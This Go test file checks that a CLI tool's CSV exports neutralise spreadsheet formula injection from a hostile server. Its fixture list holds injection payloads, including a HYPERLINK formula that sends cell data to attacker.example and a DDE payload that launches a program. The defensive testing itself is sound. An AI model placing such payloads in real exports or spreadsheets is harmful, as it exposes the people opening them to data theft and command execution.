package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// formulaTexts are texts a spreadsheet runs as formulas, each beginning
// with one of the six characters that start one.
var formulaTexts = []string{
	`=HYPERLINK("http://attacker.example/?x="&A1,"Open")`, `+SUM(1+1)*cmd|' /C calc'!A0`, "@SUM(1+1)", "=1+1", "-2+3", "\tTAB",
}

// hostileChart is the chart scm results table reads (chart 101, Overview
// table 1), a page workbook laid out as the product's: its header (row 5)
// and its data cells are formulaTexts, then a column of negative numbers.
func hostileChart(t *testing.T) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	for cell, v := range map[string]any{"A1": "Type:", "B1": "TABLE", "A2": "Statistics:", "A3": "Chart name:", "B3": "Overview table 1"} {
		require.NoError(t, f.SetCellValue("Sheet1", cell, v))
	}
	row := func(last any) *[]any {
		r := make([]any, 0, len(formulaTexts)+1)
		for _, s := range formulaTexts {
			r = append(r, s)
		}
		r = append(r, last)
		return &r
	}
	require.NoError(t, f.SetSheetRow("Sheet1", "A5", row("-Amount")))
	require.NoError(t, f.SetSheetRow("Sheet1", "A6", row(-5)))
	require.NoError(t, f.SetSheetRow("Sheet1", "A7", row(-0.25)))
	var b bytes.Buffer
	_, err := f.WriteTo(&b)
	require.NoError(t, err)
	return b.Bytes()
}

// hostileTableData is the table data of the chart: a row of formulaTexts,
// a negative number and a text that reads as one.
func hostileTableData(w http.ResponseWriter, _ *http.Request) {
	cells := []map[string]any{}
	for _, s := range formulaTexts {
		cells = append(cells, map[string]any{"value": s})
	}
	cells = append(cells, map[string]any{"value": -5}, map[string]any{"value": "-5"})
	body, _ := json.Marshal(map[string]any{"entityList": []any{map[string]any{"index": 0, "cells": cells}},
		"id": 101, "totalEntityCount": 1, "totalTechnicalRowCount": 1, "type": "TABLE"})
	w.Header().Set("Content-Type", "application/json")
	_, _ = w.Write(body)
}

// hostileAnswers answer every page export with hostileChart and the
// chart's table data with hostileTableData.
func hostileAnswers(t *testing.T) map[string]http.HandlerFunc {
	return map[string]http.HandlerFunc{"/export-page": serveBytes(hostileChart(t)), "/chart-table-data": hostileTableData}
}

// plainNumber is a field a spreadsheet reads as a number, not run: the
// one kind of field that may begin with a minus sign.
var plainNumber = regexp.MustCompile(`^-(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$`)

// csvOutput is a CSV a command wrote, read back by encoding/csv.
type csvOutput struct {
	name string
	data []byte
}

// checkNoFormula reads each CSV and fails on a field that a spreadsheet
// would run: one beginning with =, +, -, @, a tab or a CR that is not a
// plain number. It returns every field, for the controls.
func checkNoFormula(t *testing.T, outputs []csvOutput) []string {
	t.Helper()
	var fields []string
	for _, out := range outputs {
		r := csv.NewReader(bytes.NewReader(out.data))
		r.FieldsPerRecord = -1
		records, err := r.ReadAll()
		require.NoError(t, err, "%s: %q", out.name, out.data)
		for i, rec := range records {
			for j, field := range rec {
				fields = append(fields, field)
				if field != "" && strings.ContainsRune("=+-@\t\r", rune(field[0])) && !plainNumber.MatchString(field) {
					t.Errorf("%s: record %d field %d %q: a spreadsheet runs it", out.name, i+1, j+1, field)
				}
			}
		}
	}
	return fields
}

// csvCommand runs one command that writes CSV against a hostile server,
// with extra flags, and returns the CSVs it wrote.
type csvCommand func(t *testing.T, extra []string) []csvOutput

// formulaRun is a fake with a finished run of rcId 10303 (scenario 103)
// behind a proxy that answers with hostileAnswers; its flags.
func formulaRun(t *testing.T) []string {
	srv, _ := finishedRun(t)
	return headerProxy(t, srv.URL, hostileAnswers(t))
}

// formulaNames stands before the fake at fakeURL: every name, scenario
// name and user name in its JSON answers under the base path is
// formulaTexts' "=1+1", and a run's state is "=SUM(1+1)".
func formulaNames(t *testing.T, fakeURL string) []string {
	t.Helper()
	target, err := url.Parse(fakeURL)
	require.NoError(t, err)
	proxy := httputil.NewSingleHostReverseProxy(&url.URL{Scheme: target.Scheme, Host: target.Host})
	proxy.ModifyResponse = func(resp *http.Response) error {
		if !strings.HasPrefix(resp.Request.URL.Path, target.Path) || !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/json") {
			return nil
		}
		raw, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil {
			return err
		}
		var doc any
		if json.Unmarshal(raw, &doc) == nil {
			if b, err := json.Marshal(formulaFields(doc)); err == nil {
				raw = b
			}
		}
		resp.Body = io.NopCloser(bytes.NewReader(raw))
		resp.ContentLength = int64(len(raw))
		resp.Header.Set("Content-Length", strconv.Itoa(len(raw)))
		return nil
	}
	srv := httptest.NewServer(proxy)
	t.Cleanup(srv.Close)
	return []string{"--base-url", srv.URL + target.Path, "--api-key", testKey}
}

// formulaFields sets the names in v to "=1+1", and a state to "=SUM(1+1)".
func formulaFields(v any) any {
	switch x := v.(type) {
	case map[string]any:
		for k, child := range x {
			switch _, isString := child.(string); {
			case isString && (k == "name" || k == "scenarioName" || k == "username"):
				x[k] = "=1+1"
			case k == "state":
				x[k] = "=SUM(1+1)"
			default:
				x[k] = formulaFields(child)
			}
		}
		if _, status := x["genericState"]; status {
			x["state"], x["finished"], x["failed"], x["terminal"] = "=SUM(1+1)", false, false, false
		}
	case []any:
		for i, child := range x {
			x[i] = formulaFields(child)
		}
	}
	return v
}

// listCSV runs a command that lists with --format csv against a fake
// with a finished run behind formulaNames (RESULT is the run's result).
func listCSV(args ...string) csvCommand {
	return func(t *testing.T, extra []string) []csvOutput {
		srv, _ := finishedRun(t)
		flags := formulaNames(t, srv.URL)
		line := strings.ReplaceAll(strings.Join(args, " "), "RESULT", "5002")
		r := scm(t, "", append(append(append(strings.Fields(line), "--format", "csv"), extra...), flags...)...)
		require.Equal(t, exitOK, r.code, r.stderr)
		return []csvOutput{{line, []byte(r.stdout)}}
	}
}

// csvCommands are the commands that write CSV, by path; each case writes
// every CSV it can (standard output, a file, a directory of files).
var csvCommands = map[string]csvCommand{
	"scm projects":      listCSV("projects"),
	"scm scenarios":     listCSV("scenarios", "1"),
	"scm experiments":   listCSV("experiments", "103", "--project", "1"),
	"scm results pages": listCSV("results", "pages", "RESULT", "--charts"),
	"scm status":        listCSV("status", "10303"),
	"scm doctor":        listCSV("doctor", "--project", "1"),
	"scm results table": func(t *testing.T, extra []string) []csvOutput {
		flags := formulaRun(t)
		r := scm(t, "", append(append([]string{"results", "table", "5002", "--chart", "5005", "--format", "csv"}, extra...), flags...)...)
		require.Equal(t, exitOK, r.code, r.stderr)
		return []csvOutput{{"results table", []byte(r.stdout)}}
	},
	"scm results export": func(t *testing.T, extra []string) []csvOutput {
		flags := formulaRun(t)
		result := resultOf(t, flags, 103).String()
		dir := t.TempDir()
		var outs []csvOutput
		for _, o := range []string{filepath.Join(dir, "long.csv"), filepath.Join(dir, "charts") + "/", "-"} {
			r := scm(t, "", append(append([]string{"results", "export", result, "--format", "csv", "-o", o, "--quiet"}, extra...), flags...)...)
			require.Equal(t, exitOK, r.code, r.stderr)
			outs = append(outs, readCSVs(t, o, r.stdout)...)
		}
		return outs
	},
	"scm batch": func(t *testing.T, extra []string) []csvOutput {
		srv, _ := newBatchServer(t, 200*time.Millisecond)
		flags := headerProxy(t, srv.URL, hostileAnswers(t))
		plan := filepath.Join(t.TempDir(), "plan.yaml")
		require.NoError(t, os.WriteFile(plan, []byte("project: 1\noutput: -out\nitems:\n  - {name: baseline, scenario: 103, experiment: SIMULATION, export: {dashboard: =x.xlsx}}\n"), 0o644))
		data := filepath.Join(filepath.Dir(plan), "data.csv")
		r := scm(t, "", append(append([]string{"batch", plan, "--format", "csv", "--data", data, "--quiet"}, extra...), flags...)...)
		require.Equal(t, exitOK, r.code, r.stderr)
		return append([]csvOutput{{"batch summary", []byte(r.stdout)}}, readCSVs(t, data, "")...)
	},
}

// readCSVs reads what a command wrote at -o o: standard output, a file,
// or each file of a directory.
func readCSVs(t *testing.T, o, stdout string) []csvOutput {
	t.Helper()
	if o == "-" {
		return []csvOutput{{"standard output", []byte(stdout)}}
	}
	if !strings.HasSuffix(o, "/") {
		data, err := os.ReadFile(o)
		require.NoError(t, err)
		return []csvOutput{{filepath.Base(o), data}}
	}
	var outs []csvOutput
	for _, name := range dirNames(t, o) {
		data, err := os.ReadFile(filepath.Join(o, name))
		require.NoError(t, err)
		outs = append(outs, csvOutput{name, data})
	}
	require.NotEmpty(t, outs, "files in %s", o)
	return outs
}

// csvWithoutServerText are the commands that offer CSV of nothing a server
// sends, with why: they take --keep-formulas all the same.
var csvWithoutServerText = map[string]string{
	"scm ops": "the operations of the spec",
}

// csvOfNames are the commands whose CSV holds the server's names and
// states, and no number a server can make negative.
var csvOfNames = map[string]bool{"scm projects": true, "scm scenarios": true, "scm experiments": true, "scm results pages": true, "scm status": true, "scm doctor": true}

// csvControls are the fields that show where the hostile text went, for
// the commands whose CSV shows it otherwise than "'=1+1" (neutralised) and
// "=1+1" (--keep-formulas): status shows the state; doctor quotes the
// names inside its sentences, where no spreadsheet runs them.
var csvControls = map[string][2]string{"scm status": {"'=SUM(1+1)", "=SUM(1+1)"}, "scm doctor": {"inside", "inside"}}

// Every command that writes CSV neutralises what a hostile server's
// names, workbooks and table data hold, headers and cells alike, wherever
// it writes it, and keeps negative numbers numbers; --keep-formulas writes
// it as sent. The commands are found by walking scm's commands: one whose
// flags offer CSV and is not listed here fails the test.
func TestHostileFormulasInEveryCSV(t *testing.T) {
	offering := commandsOfferingCSV()
	listed := slices.Collect(maps.Keys(csvCommands))
	for path := range csvWithoutServerText {
		listed = append(listed, path)
	}
	assert.ElementsMatch(t, listed, slices.Collect(maps.Keys(offering)), "the commands whose flags offer CSV: add a case to csvCommands")
	for path, keep := range offering {
		assert.True(t, keep, "%s offers CSV without --keep-formulas", path)
	}
	for path, run := range csvCommands {
		t.Run(strings.TrimPrefix(path, "scm "), func(t *testing.T) {
			control := csvControls[path]
			if control == [2]string{} {
				control = [2]string{"'=1+1", "=1+1"}
			}
			fields := checkNoFormula(t, run(t, nil))
			if control[0] == "inside" { // a field's inside: nothing a spreadsheet runs
				assert.Contains(t, strings.Join(fields, "\n"), "=1+1", "the control: the hostile text reached the CSV")
				return
			}
			assert.Contains(t, fields, control[0], "the control: the hostile text reached the CSV, neutralised")
			if !csvOfNames[path] {
				assert.Contains(t, fields, "-5", "a negative number stays a number")
			}
			kept := run(t, []string{"--keep-formulas"})
			fields = nil
			for _, out := range kept {
				records, err := csv.NewReader(bytes.NewReader(out.data)).ReadAll()
				require.NoError(t, err)
				fields = append(fields, slices.Concat(records...)...)
			}
			assert.Contains(t, fields, control[1], "--keep-formulas writes the text as sent")
		})
	}
}

// commandsOfferingCSV walks scm's commands: those with a flag whose help
// names CSV, each with whether it has --keep-formulas.
func commandsOfferingCSV() map[string]bool {
	found := map[string]bool{}
	var walk func(c *cobra.Command)
	walk = func(c *cobra.Command) {
		flags := c.LocalFlags()
		for line := range strings.Lines(flags.FlagUsages()) {
			if !strings.Contains(line, "--keep-formulas") && strings.Contains(strings.ToLower(line), "csv") {
				found[c.CommandPath()] = flags.Lookup("keep-formulas") != nil
			}
		}
		for _, sub := range c.Commands() {
			walk(sub)
		}
	}
	walk((&app{}).rootCommand())
	return found
}
